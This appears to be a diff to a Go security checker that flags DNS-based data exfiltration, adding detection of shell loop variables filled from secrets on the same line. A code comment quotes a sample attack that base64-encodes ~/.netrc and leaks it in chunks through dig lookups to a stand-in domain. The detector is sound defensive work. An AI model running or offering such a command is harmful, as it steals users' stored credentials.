@@ -851,6 +851,13 @@ func (c *checker) checkDNS(d *doc, u unit, t string) {
 			what = "command output " + label
 		default:
 			name := strings.Trim(label, "${}")
+			if src, ok := filledInUnit(t[:m[0]], name); ok {
+				// Round 32: a loop variable or name filled from a secret
+				// earlier on the same line (for p in $(base64 ~/.netrc
+				// | fold -w 60); do dig $p.x.example; done).
+				what = label + " (filled from " + src.name + ")"
+				break
+			}
 			if !isSecretName(name) {
 				continue
 			}
@@ -860,6 +867,31 @@ func (c *checker) checkDNS(d *doc, u unit, t string) {
 		tier, msg := downgrade(c.securityContext(d, s), fmt.Sprintf("puts %s into a host name under %s: the DNS lookup carries the data out", what, domain))
 		c.add(d, RuleExfilDNS, tier, s, e, msg)
 	}
+}
+
+// fillRe: a shell loop header or an assignment on one line; group 1
+// (or 3) the name, group 2 (or 4) what fills it.
+var fillRe = regexp.MustCompile(`\bfor\s+([A-Za-z_]\w*)\s+in\s+([^;\n]{1,300}?)\s*;\s*do\b|(?:^|[\s;(` + "`" + `])([A-Za-z_]\w*)=(\$\([^\n]{1,300}?\)|` + "`[^`\\n]{1,300}`" + `)`)
+
+// filledInUnit reports a name filled, earlier in the same unit, from a
+// source (a credential file, a secret, the environment).
+func filledInUnit(t, name string) (source, bool) {
+	if !strings.Contains(t, name) {
+		return source{}, false
+	}
+	for _, m := range fillRe.FindAllStringSubmatchIndex(t, 8) {
+		n, v := 2, 4
+		if m[2] < 0 {
+			n, v = 6, 8
+		}
+		if t[m[n]:m[n+1]] != name {
+			continue
+		}
+		if srcs := findSources(t[m[v]:m[v+1]]); len(srcs) > 0 {
+			return srcs[0], true
+		}
+	}
+	return source{}, false
 }
 
 var (
